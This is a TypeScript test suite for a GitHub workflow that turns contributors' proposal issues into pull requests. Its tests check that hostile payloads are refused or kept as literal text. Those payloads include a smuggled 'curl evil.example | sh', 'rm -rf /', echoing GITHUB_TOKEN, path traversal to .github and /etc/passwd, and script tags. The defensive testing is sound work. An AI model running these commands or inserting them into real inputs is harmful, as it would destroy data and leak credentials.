/**
 * From issue to pull request: the parser (src/contribute/proposal-issue.ts) and the script the workflow
 * runs (scripts/proposal-from-issue.ts) against recorded issue payloads in
 * test/fixtures/proposal-issues/: valid, invalid, no entry, and hostile ones (script tags, shell
 * metacharacters, path traversal, a huge body). The valid fixture is the control that proves the
 * path to a pull request is live, so the hostile ones fail for their own reason.
 */
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { ENTRY_HEADING, parseProposalIssue, problemsComment, proposalBranch } from '../../src/contribute/proposal-issue.ts';
import { repoRoot } from './helpers.ts';

const fixtures = join(repoRoot, 'test/fixtures/proposal-issues');
const fixture = (name: string) => JSON.parse(readFileSync(join(fixtures, `${name}.json`), 'utf8')) as { issue: { body: string; number: number } };

const temp: string[] = [];
afterAll(() => temp.forEach((dir) => rmSync(dir, { recursive: true, force: true })));

function run(name: string) {
  const root = mkdtempSync(join(tmpdir(), 'proposal-issue-'));
  temp.push(root);
  cpSync(join(repoRoot, 'content'), join(root, 'content'), { recursive: true });
  const out = join(root, 'out');
  const result = spawnSync(process.execPath, [join(repoRoot, 'scripts/proposal-from-issue.ts'), '--event', join(fixtures, `${name}.json`), '--out', out, '--root', root], { encoding: 'utf8' });
  const read = (file: string) => (existsSync(join(out, file)) ? readFileSync(join(out, file), 'utf8') : undefined);
  return { root, status: result.status, stderr: result.stderr, result: read('result'), comment: read('comment.md'), title: read('title.txt'), pr: read('pr.md'), commit: read('commit.txt'), branch: read('branch') };
}

const contentFiles = (root: string) => readdirSync(join(root, 'content'), { recursive: true }).length;

describe('parseProposalIssue', () => {
  it('reads the files from the entry field (CRLF as GitHub sends it)', () => {
    const parsed = parseProposalIssue(fixture('valid').issue.body);
    expect(parsed.problems).toEqual([]);
    expect(parsed.files.map((file) => file.path)).toEqual(['content/organisations/odeby-kommun.yaml', 'content/cases/digital-tillsyn-nattetid-i-odeby-kommun.md']);
    expect(parsed.files[1]!.text).not.toContain('\r');
    expect(parsed.files[1]!.text.startsWith('---\n')).toBe(true);
  });

  it('refuses paths outside the four collections, traversal, wrong extensions and too many files', () => {
    const block = (...paths: string[]) => `${ENTRY_HEADING}\n\n\`\`\`text\n${paths.map((p) => `=== ${p} ===\nname: x\n`).join('')}\`\`\`\n`;
    for (const path of ['content/cases/../../.github/workflows/x.md', '../content/cases/x.md', 'content/cases/X.md', 'content/requirements/x.md', 'content/organisations/x.md', 'content/cases/x.yaml', 'content/cases/a/b.md', '/etc/passwd']) {
      expect(parseProposalIssue(block(path)).files, path).toEqual([]);
    }
    expect(parseProposalIssue(block('content/cases/a.md', 'content/organisations/b.yaml', 'content/organisations/c.yaml', 'content/organisations/d.yaml', 'content/organisations/e.yaml')).problems.join()).toMatch(/more than 4 files/);
    expect(parseProposalIssue(block('content/organisations/b.yaml')).problems.join()).toMatch(/no case, method or event/);
  });

  it('refuses a huge body before reading it, and says when the form was not used', () => {
    expect(parseProposalIssue('x'.repeat(70_000)).problems.join()).toMatch(/at most 65536/);
    expect(parseProposalIssue(fixture('no-entry').issue.body).problems.join()).toMatch(/no entry written by the site's form/);
  });

  it('builds the branch from the number only, and writes problems as code spans', () => {
    expect(proposalBranch(12)).toBe('proposal/issue-12');
    expect(() => proposalBranch(Number('12; rm -rf /'))).toThrow();
    expect(problemsComment(['a `b`\n<script>'])).toContain("- `a 'b' <script>`");
  });
});

describe('.github/workflows/proposal-to-pr.yml', () => {
  const text = readFileSync(join(repoRoot, '.github/workflows/proposal-to-pr.yml'), 'utf8');
  const code = text.split('\n').filter((line) => !/^\s*#/.test(line)).join('\n');
  it('runs the script on the event file, reads everything else from its files, and never interpolates the issue', () => {
    expect(code).toContain('node scripts/proposal-from-issue.ts --event "$GITHUB_EVENT_PATH"');
    expect(code).not.toMatch(/\$\{\{\s*github\.event\.(issue|comment)/);
    expect(code).toContain('--body-file "$OUT/pr.md"');
    expect(code).toContain('git commit -F "$OUT/commit.txt"');
    expect(code).toMatch(/^permissions: \{\}$/m);
    expect(code).toContain("github.event.label.name == 'ready-for-pr'");
  });
});

describe('scripts/proposal-from-issue.ts with recorded payloads', () => {
  it('valid (the control): writes the files, the check passes, and a pull request credits the proposer', () => {
    const run1 = run('valid');
    expect(run1.status, run1.stderr).toBe(0);
    expect(run1.result).toBe('pr');
    expect(existsSync(join(run1.root, 'content/cases/digital-tillsyn-nattetid-i-odeby-kommun.md'))).toBe(true);
    expect(existsSync(join(run1.root, 'content/organisations/odeby-kommun.yaml'))).toBe(true);
    expect(run1.branch).toBe('proposal/issue-101');
    expect(readFileSync(join(run1.root, 'out', 'issue'), 'utf8')).toBe('101');
    expect(run1.pr).toContain('Proposed by @kommun-ehalsa in #101');
    expect(run1.commit).toContain('Co-authored-by: kommun-ehalsa <4242+kommun-ehalsa@users.noreply.github.com>');
  });

  it('invalid: no files kept for a PR; the comment carries the content check’s messages', () => {
    const run2 = run('invalid');
    expect(run2.result).toBe('comment');
    expect(run2.comment).toContain("'pilott' is not an allowed value");
    expect(run2.comment).toMatch(/lessons/i);
    expect(run2.title).toBeUndefined();
  });

  it('hostile script tags: refused by the content check, never turned into a pull request', () => {
    const run3 = run('hostile-script');
    expect(run3.result).toBe('comment');
    expect(run3.comment).toMatch(/script/i);
  });

  it('hostile shell metacharacters: stay literal text in files, never in a branch name or a credit', () => {
    const run4 = run('hostile-shell');
    expect(run4.result).toBe('pr');
    expect(run4.branch).toBe('proposal/issue-105');
    expect(run4.pr).toContain('Proposed by the proposer'); // the login 'x; rm -rf ~' is not a GitHub login
    expect(run4.commit).not.toContain('Co-authored-by');
    const [file] = readdirSync(join(run4.root, 'content/cases')).filter((name) => name.startsWith('tillsyn-curl'));
    expect(readFileSync(join(run4.root, 'content/cases', file!), 'utf8')).toContain('title: "Tillsyn $(curl evil.example | sh) `id` ; rm -rf / && echo ${GITHUB_TOKEN}"');
  });

  it('hostile paths: nothing is written anywhere', () => {
    const before = contentFiles(join(repoRoot));
    const run5 = run('hostile-path');
    expect(run5.result).toBe('comment');
    expect(run5.comment).toContain('is not a new file in content/cases');
    expect(existsSync(join(run5.root, '.github'))).toBe(false);
    expect(existsSync(join(run5.root, 'scripts'))).toBe(false);
    expect(contentFiles(run5.root)).toBe(before);
  });

  it('huge body: refused without parsing', () => {
    const run6 = run('huge');
    expect(run6.result).toBe('comment');
    expect(run6.comment).toMatch(/at most 65536/);
  });

  it('an existing file is never overwritten', () => {
    const parsed = parseProposalIssue(fixture('valid').issue.body);
    expect(parsed.files.length).toBe(2);
    const root = run('valid').root;
    // Second run on the same root: the files now exist.
    const out = join(root, 'out2');
    spawnSync(process.execPath, [join(repoRoot, 'scripts/proposal-from-issue.ts'), '--event', join(fixtures, 'valid.json'), '--out', out, '--root', root], { encoding: 'utf8' });
    expect(readFileSync(join(out, 'result'), 'utf8')).toBe('comment');
    expect(readFileSync(join(out, 'comment.md'), 'utf8')).toContain('already exists');
  });
});
